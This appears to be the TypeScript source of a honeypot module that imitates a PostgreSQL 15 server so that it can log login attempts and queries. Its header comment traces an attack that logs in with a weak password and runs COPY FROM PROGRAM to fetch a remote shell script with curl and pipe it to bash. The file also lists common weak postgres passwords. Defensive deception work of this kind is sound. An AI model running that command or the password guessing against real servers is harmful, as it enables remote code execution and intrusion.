/**
 * PostgreSQL, as it stands in the open with a weak password.
 *
 *   attacker: SSLRequest                         us: S, and TLS
 *   attacker: user=postgres database=postgres    us: SCRAM-SHA-256-PLUS, SCRAM-SHA-256
 *   attacker: n,,n=,r=…                          us: r=…, s= this role's salt, i=4096
 *   attacker: c=…,r=…,p=…                        → login; the password in clear when it is a common one
 *   us:       v=…, AuthenticationOk, ParameterStatus …, ReadyForQuery
 *   attacker: DROP TABLE IF EXISTS cmd_exec; CREATE TABLE cmd_exec(cmd_output text)
 *   attacker: COPY cmd_exec FROM PROGRAM 'curl http://203.0.113.9/x.sh | bash'   → the simulated host runs it
 *   attacker: SELECT * FROM cmd_exec             us: what it printed
 *
 * The codec reads and writes messages, authentication.ts is the login, connection.ts the two query protocols; the database
 * itself is src/host/database/.
 */
import { z } from 'zod'
import type { Identity } from '../../config/identity.ts'
import type { Persona } from '../../config/persona.ts'
import { evidence } from '../../events/bytes.ts'
import { POSTGRESQL } from '../../host/database/postgresql/dialect.ts'
import { showSetting } from '../../host/database/postgresql/settings.ts'
import { DatabaseServers } from '../../host/database/servers.ts'
import { DatabaseSession } from '../../host/database/session.ts'
import { toText } from '../../host/text.ts'
import { ByteWriter } from '../../sensor/byte-writer.ts'
import { LoginDesk, LoginOptions } from '../../sensor/login-desk.ts'
import { defineLure, type VisitContext } from '../../sensor/lure.ts'
import { SqlDesk } from '../../sensor/sql-desk.ts'
import { LimitReached, type Visit, VisitEnded } from '../../sensor/visit.ts'
import { logIn } from './authentication.ts'
import {
  decodeStartup,
  encodeAuthentication,
  encodeError,
  encodeParameter,
  encodeReady,
  LARGEST_STARTUP,
  message,
  PostgresFormatError,
  REQUEST,
  type StartupPacket,
} from './codec.ts'
import { Connection, errorFields, readMessage } from './connection.ts'
import { type PostgresqlEvents, postgresqlEvents } from './events.ts'

/** A password, or a message of SCRAM. */
const LARGEST_PASSWORD = 8192
/** A client may ask for TLS and GSSAPI once each before it starts. */
const MOST_REQUESTS = 3

const options = z.strictObject({
  /** What pg_hba.conf says for connections from elsewhere. */
  authentication: z.enum(['scram-sha-256', 'md5', 'password']).default('scram-sha-256'),
  /** `ssl = on`, as Debian has it. */
  tls: z.boolean().default(true),
  login: LoginOptions,
})
type Context = VisitContext<z.output<typeof options>, Room>

interface Room {
  servers: DatabaseServers
  /** Process ids grow by one a connection. */
  pid: number
  /** UTC milliseconds. */
  startedAt: number
}

export default defineLure({
  name: 'postgresql',
  standsFor: ['Heralding', 'Honeypots'],
  about: 'PostgreSQL 15 with the persona’s databases',
  profiles: ['standard', 'llm', 'mini', 'medical'],
  ports: [{ transport: 'tcp', port: 5432 }],
  options,
  events: postgresqlEvents,

  start: ({ identity }): Room => ({
    servers: new DatabaseServers({ dialect: POSTGRESQL, identity, systemDatabases: SYSTEM, firstId: 16_384 }),
    pid: identity.integer('postgresql/pid', 1200, 90_000),
    startedAt: Date.now() - identity.integer('postgresql/uptime', 4, 60) * 86_400_000,
  }),

  async serve(visit, context) {
    try {
      const startup = await readStartup(visit, context.options.tls)
      if (startup) await serveClient(visit, context, startup)
    } catch (error) {
      if (!(error instanceof PostgresFormatError)) throw error
      visit.record('postgresql.protocol-error', { message: error.message })
    }
  },
})

const SYSTEM = [
  { name: 'postgres', id: 5 },
  { name: 'template1', id: 1 },
  { name: 'template0', id: 4 },
]

/** Debian's build of the persona's package, else 15.18. */
function versionOf({ packages }: Persona): string {
  const [, version] = packages.map((entry) => /^postgresql-\d+ (\S+)/.exec(entry)).find((match) => match) ?? []
  const [release = '15.18', build = '0+deb12u1'] = version?.split('-') ?? []
  return `${release} (Debian ${release}-${build})`
}

/** The packet with the parameters, after requests for encryption; undefined when there is to be none. */
async function readStartup(visit: Visit<PostgresqlEvents>, tls: boolean): Promise<StartupPacket | undefined> {
  for (let i = 0; i < MOST_REQUESTS; i++) {
    const length = (await visit.exactly(4)).readUInt32BE()
    // The server closes on what is no length, without a word.
    if (length < 8 || length > LARGEST_STARTUP) return undefined
    const packet = decodeStartup(await visit.exactly(length - 4))
    if (packet.code === REQUEST.ssl && !visit.tls) {
      await visit.write(tls ? 'S' : 'N')
      if (tls) await visit.startTls()
    } else if (packet.code === REQUEST.gss) await visit.write('N')
    else if (packet.code === REQUEST.cancel) {
      visit.record('postgresql.cancel-request', { pid: 0 })
      return undefined
    } else return packet
  }
  return undefined
}

/** Tells the client why the connection ends. */
async function refuse(visit: Visit<PostgresqlEvents>, state: string, text: string): Promise<void> {
  await visit.write(encodeError(errorFields({ code: 0, state, message: text }, 'FATAL')))
}

async function serveClient(
  visit: Visit<PostgresqlEvents>,
  context: Context,
  { code, parameters, isTerminated }: StartupPacket,
): Promise<void> {
  const [major, minor] = [code >>> 16, code & 0xffff]
  visit.record('postgresql.client', {
    protocol: `${major}.${minor}`,
    parameters: Object.fromEntries([...parameters].map(([name, value]) => [name.slice(0, 64), evidence(value.subarray(0, 512))])),
    tls: visit.tls !== undefined,
  })
  if (major < 3) {
    // Before protocol 3 an error was a line of text.
    await visit.write(`EFATAL:  unsupported frontend protocol ${major}.${minor}: server supports 3.0 to 3.0\n\0`)
    return
  }
  if (major > 3) return refuse(visit, '0A000', `unsupported frontend protocol ${major}.${minor}: server supports 3.0 to 3.0`)
  if (!isTerminated) return refuse(visit, '08P01', 'invalid startup packet layout: expected terminator as last byte')
  const user = parameters.get('user')
  if (!user?.length) return refuse(visit, '28000', 'no PostgreSQL user name specified in startup packet')
  if (minor > 0) await visit.write(message('v', new ByteWriter().u32be(0x30000).u32be(0).done()))
  const readPassword = async (): Promise<Buffer> => {
    const { type, body } = await readMessage(visit, LARGEST_PASSWORD)
    if (type !== 'p') throw new PostgresFormatError(`message ${type} in place of a password`)
    return body
  }
  const outcome = await logIn({
    visit,
    desk: deskOf(visit, context),
    identity: context.identity,
    user,
    method: context.options.authentication,
    readPassword,
  })
  if (outcome !== 'accepted') return refuse(visit, '28P01', `password authentication failed for user "${toText(user)}"`)
  await serveSession(visit, context, user, parameters)
}

/** Passwords of postgres that brute-forcers find; two of them an install, drawn by the seed. */
const WEAK_PASSWORDS = ['postgres', '123456', 'password', 'postgres123', 'admin', '12345678', 'qwerty', 'P@ssw0rd', '1234', 'abc123']

function weakLogins(identity: Identity): { user: string; password: string }[] {
  const first = identity.integer('postgresql/weak', 0, WEAK_PASSWORDS.length - 1)
  return [first, (first + 3) % WEAK_PASSWORDS.length].map((i) => ({ user: 'postgres', password: WEAK_PASSWORDS[i] as string }))
}

function deskOf(visit: Visit<PostgresqlEvents>, { options: given, persona, identity, host, state, loopback }: Context): LoginDesk {
  const accept = [...persona.login.accept, ...weakLogins(identity)]
  return new LoginDesk(visit, {
    options: given,
    host,
    identity,
    state,
    loopback,
    persona: { ...persona, login: { ...persona.login, accept } },
  })
}

async function serveSession(
  visit: Visit<PostgresqlEvents>,
  context: Context,
  user: Buffer,
  parameters: ReadonlyMap<string, Buffer>,
): Promise<void> {
  const { room, persona, identity, port } = context
  const pid = ++room.pid
  const desk = new SqlDesk({ lure: 'postgresql', visit, context, account: 'postgres', via: 'postgres' })
  const { catalog, settings, libraries } = room.servers.of(persona, visit.source.ip)
  const name = toText(user)
  const database = parameters.get('database')
  let connection: Connection | undefined
  const session = new DatabaseSession({
    dialect: POSTGRESQL,
    catalog,
    identity,
    persona,
    host: desk.host,
    version: versionOf(persona),
    database: database?.length ? toText(database) : name,
    user: name,
    clientIp: visit.source.ip,
    clientPort: visit.source.port,
    port: port.declared.port,
    connectionId: pid,
    startedAt: room.startedAt,
    serverSettings: settings,
    libraries,
    note: (effect) => {
      if (effect.kind === 'notice') connection?.notices.push(effect)
      else desk.note(effect)
    },
  })
  await visit.write(encodeAuthentication(0))
  if (!session.current) return refuse(visit, '3D000', `database "${session.database}" does not exist`)
  const application = parameters.get('application_name')
  if (application) session.settings.set('application_name', toText(application).slice(0, 63))
  await visit.write(Buffer.concat([...greeting(session, identity, pid), encodeReady('I')]))
  connection = new Connection(visit, session, desk)
  try {
    await connection.serve()
  } catch (error) {
    if (!(error instanceof LimitReached && error.limit === 'message')) throw error
    await refuse(visit, '08P01', 'invalid message length')
    throw new VisitEnded()
  } finally {
    desk.close()
  }
}

/** Settings that a client is told, in the server's order, and the key for cancelling. */
const REPORTED = [
  'application_name',
  'client_encoding',
  'DateStyle',
  'default_transaction_read_only',
  'in_hot_standby',
  'integer_datetimes',
  'IntervalStyle',
  'is_superuser',
  'server_encoding',
  'server_version',
  'session_authorization',
  'standard_conforming_strings',
  'TimeZone',
]

function greeting(session: DatabaseSession, identity: Identity, pid: number): Buffer[] {
  const key = new ByteWriter()
    .u32be(pid)
    .bytes(identity.bytes(`postgresql/cancel/${pid}`, 4))
    .done()
  return [...REPORTED.map((name) => encodeParameter(name, showSetting(session, name) ?? '')), message('K', key)]
}
